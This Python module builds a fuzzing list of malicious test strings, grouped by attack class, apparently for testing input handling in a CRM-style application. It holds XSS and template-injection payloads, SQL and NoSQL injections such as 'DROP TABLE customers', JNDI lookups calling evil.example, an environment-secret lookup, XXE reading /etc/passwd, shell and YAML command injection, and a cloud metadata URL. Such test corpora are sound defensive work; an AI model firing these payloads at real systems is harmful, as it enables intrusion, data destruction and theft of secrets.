"""Texts that have broken programs, by what they try: made by code from the parts that matter."""

from __future__ import annotations

from functools import lru_cache

_TAGS: tuple[str, ...] = (
    "img", "svg", "iframe", "body", "input", "details", "video", "math", "object", "embed", "link", "meta", "base",
    "form", "style", "script", "template", "marquee",
)  # fmt: skip
_AROUND = ("{}", '">{}', "</title>{}", "</textarea>{}<!--")
_BREAKOUTS = (
    '" autofocus onfocus=alert(1) x="', "' onmouseover='alert(1)", "`onclick=alert(1)", "-->", "]]>", "</bdi>",
    "</style>", "</script><script>alert(1)</script>", "&lt;script&gt;", "&#60;script&#62;", "&#x3c;b&#x3e;",
    "%3Cscript%3E", "＜script＞alert(1)＜/script＞", "\\x3cscript\\x3e", "\\u003cscript\\u003e",
    "<a href=javascript:alert(1)>x</a>", "<b", "<", ">", "&", "&amp;amp;", '"', "'", "<!--#exec cmd=id -->",
    "<esi:include src=//evil.example/>", "<?xml?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
    "<a href='//evil.example'>x</a>", "<b>bold</b>", "<p>",
)  # fmt: skip
_ENGINES = (
    ("{{", "}}"), ("{%", "%}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("<?php ", "?>"), ("[[", "]]"), ("{", "}"),
    ("%{", "}"), ("@{", "}"), ("*{", "}"), ("{{{", "}}}"),
)  # fmt: skip
_EXPRESSIONS = ("7*7", "name.__class__", "constructor.constructor('return 1')()", "T(java.lang.Runtime)", "x|safe")
_BREAKS = ("\r\n", "\n", "\r", "%0d%0a", "\u2028", "\u2029", "\u0085", "\x0b", "\x0c", "\\r\\n", "嘊嘍")
_HEADERS = ("Bcc: x@evil.example", "Set-Cookie: a=1", "Location: //evil.example", "Subject: other", "\r\n<b>body</b>")
_SIGNS = ("=1+1", "+1", "-1", "@SUM(1)", "＝1", "＋1", "－1", "＠a", "\t=1", "\r=1", "|x", "%x")
_BEFORE = ("", " ", "\ufeff", "\u200f", "'", "\u00a0", '"', ";")
_QUERIES = (
    "' OR '1'='1", "'; DROP TABLE customers;--", '" OR ""="', "1) OR (1=1", "' UNION SELECT NULL--", "admin'--",
    "1; WAITFOR DELAY '0:0:9'", "' AND sleep(9)#", "\\'; --", "%' OR '%'='", "$ne", '{"$gt": ""}', '{"$where": "1"}',
    "'; return true; var x='", 'SELECT * FROM "crm"', 'DELETE FROM "crm" WHERE pk=\'x\'', "attribute_exists(pk)",
    "pk = :pk OR sk = :sk", "#pk", ":pk", "contains(#n, :v)", "begins_with(pk, 'C')", "*)(uid=*))(|(uid=*",
    "' or 1=1]%00", "*", "(a+)+$", "[[:alpha:]]", ".*", "^", "\\",
)  # fmt: skip
_PATHS = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd", "....//....//etc/passwd",
    "%2e%2e%2fetc", "..%252f", "..", ".", "/", "//evil.example", "\\\\evil.example\\x", "C:\\", "~root", "CON", "a/b",
    "exports/", "inbox/../exports", "s3://crm", "arn:aws:iam::1:root", "%00", "x.csv%00.png", "name/../name",
)  # fmt: skip
_LOOKUPS = (
    "${jndi:ldap://evil.example/x}", "${${lower:j}ndi:rmi://evil.example}", "${env:AWS_SECRET_ACCESS_KEY}",
    "${sys:user.home}", "$(id)", "`id`", "; id", "| id", "&& id", "$IFS", "%COMSPEC%", "{{env.SECRET}}", "%s%s%s%n",
    "%x.%x", "%(name)s", "{0}", "{name!r}", "{0.__class__}", "{:>99999}", "%99999d", "%c", "$1\\1",
    "!!python/object/apply:os.system [id]", "__import__('os').system('id')", "BEGIN:VCALENDAR", "END:VEVENT",
    "BEGIN:VALARM\r\nACTION:PROCEDURE", "javascript:alert(1)", "data:text/html,<b>", "vbscript:x",
    "http://169.254.169.254/",
)  # fmt: skip
_TURNS = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_UNSEEN = "\u200b\u200c\u200d\u2060\ufeff\u180e\u00ad\u034f\u115f\u3164\ufffc\ufffd\u2800\ufff9\ufe0f"
_OUTSIDE = "\ufdd0\ufffe\uffff\U0001fffe\U0010ffff\ue000\U000e0001\U000e0041\U000f0000"
_LETTERS = (
    "\ufdfa", "\ufdfa" * 60, "\ufdfa" * 200, "e\u0301", "é", "e" + "\u0301" * 9, "Z" + "\u0300" * 100,
    "a" + "\u0300" * 100_000,
    "аpple", "раураl", "exаmple.com", "ɑdmin", "０１２", "ﬁ", "ß", "ſ", "İ", "ı", "ǆ", "ŉ", "ΐ",
    "ᾳ", "ﷲ", "Å", "Å", "ᄀᄀᄀ각", "한글", "नेपाल", "क्‍ष", "عائشہ", "שָׁלוֹם", "বাংলা",
    "👨‍👩‍👧‍👦", "🏳️‍🌈", "🇵🇰🇵", "👍🏽",
    "🧑🏿‍🚀" * 20, "\U0001f3f4\U000e0067\U000e007f", "𝕳𝖊𝖑𝖑𝖔", "Ⓐ①⑴", "١٢٣", "१२३", "½", "Ⅷ", "﷽" * 40, "က္က", "ꙮ",
    "𒐫" * 30, "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤",
)  # fmt: skip
_NUMBERS = (
    "1e400", "-1e400", "NaN", "Infinity", "-0", "0x7f", "1_000", "1,000.50", "00", "9" * 400, "0." + "0" * 400 + "1",
    "1" + "0" * 5000, "--1", "1/0", "2147483648", "18446744073709551616", "1.0e-999", "+1", "0b1", "null", "true",
)  # fmt: skip
_SHAPES = (
    '{"a": 1}', "[]", "[" * 10_000, "null", '\\"', "\\u0000", "__proto__", "constructor", "toString", "hasOwnProperty",
    "undefined", "None", "pk", "sk", "entity", "version", "CUSTOMER#x", "AUDIT", "ROSTER", "ACCESS", "STAFF#owner", "|",
    "#", "~0", "~1", "/", "a.b", "a[0]", "custom.x", "key:1", "k1.e30.AAAA", "eyJhbGciOiJub25lIn0.e30.",
)  # fmt: skip
_CONTACTS = (
    'a@b"', "a@[127.0.0.1]", '"<b>"@x.example', "a@exаmple.com", "a b@c.example", "x@localhost", "a@b@c.example",
    "=cmd@example.org", "+1@example.org", "a@example.org\r\nBcc: b@example.org", "a@example.org,b@example.org",
    "<a@example.org>", "a@example.org;b@example.org", "a@-x.example", "a@x..example", f"{'x' * 65}@x.example", "@",
    "a@", "root@127.1", "a@xn--80ak6aa92e.com", "tel:+1", "+92300123456789012", "+", "00923001234567", "٠٣٠٠١٢٣٤٥٦٧",
    "911;ext=1", "2026-02-30", "0000-00-00", "--02-30", "9999-12-31T23:59:59Z", "2026-11-22T25:00", "now", "P99999999Y",
    "P-1D", "FREQ=SECONDLY", "FREQ=DAILY;COUNT=999999999", "RRULE:FREQ=DAILY", "Mars/Olympus", "../UTC", "zz-ZZ-x-y",
    "en\n",
)  # fmt: skip
_LENGTHS = (
    "", " ", "\t", "\n", " \u00a0\u3000 ", "x" * 61, "x" * 201, "x" * 4001, "ж" * 2_100, "x" * 100_000,
    "🧑🏿‍🚀" * 400,
)  # fmt: skip
_HALVES = ("\ud800", "\udfff", "a\ud83d", "\ude00b", "\ude00\ud83d", "x\udc00<b>")


@lru_cache(maxsize=1)
def by_class() -> dict[str, tuple[str, ...]]:
    """The texts by what they try."""
    markup = [around.format(f"<{tag} src=x onerror=alert(1)>") for tag in _TAGS for around in _AROUND]
    controls = [f"a{chr(code)}b" for code in (*range(32), *range(0x7F, 0xA0, 3))]
    return {
        "markup": (*markup, *_BREAKOUTS),
        "template": tuple(f"{left}{one}{right}" for left, right in _ENGINES for one in _EXPRESSIONS),
        "header": tuple(f"x{line}{one}" for line in _BREAKS for one in _HEADERS),
        "formula": tuple(f"{before}{sign}" for sign in _SIGNS for before in _BEFORE),
        "query": _QUERIES,
        "path": _PATHS,
        "lookup": _LOOKUPS,
        "direction": tuple(text for one in _TURNS for text in (f"{one}abc", f"ab{one}cd", f"abc{one}")),
        "control": tuple(controls),
        "unseen": tuple(text for one in (*_UNSEEN, *_OUTSIDE) for text in (one, f"a{one}b")),
        "letter": _LETTERS,
        "number": _NUMBERS,
        "shape": _SHAPES,
        "contact": _CONTACTS,
        "length": _LENGTHS,
        "half": _HALVES,
    }


def strings() -> list[str]:
    """All of them, each once."""
    return list(dict.fromkeys(text for texts in by_class().values() for text in texts))


def is_no_text(text: str) -> bool:
    """Whether it holds half a character, which no decoder should take."""
    return any("\ud800" <= one <= "\udfff" for one in text)
